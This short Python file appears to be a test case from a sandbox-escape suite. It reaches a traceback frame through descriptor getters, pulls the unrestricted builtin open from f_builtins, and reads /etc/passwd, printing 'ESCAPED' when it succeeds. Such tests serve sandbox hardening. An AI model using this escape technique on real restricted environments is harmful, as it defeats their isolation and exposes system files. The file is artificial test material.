# tries: descriptor traceback library: the same for a traceback's frame
# class: lazy
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


import collections

try:
    1 / 0
except ZeroDivisionError as error:
    first = collections.UserList(map(BaseException.__traceback__.__get__, [error]))
    trace = first[0]
    seen = collections.UserList(map(type(trace).tb_frame.__get__, [trace]))
    use(pick(seen[0]))
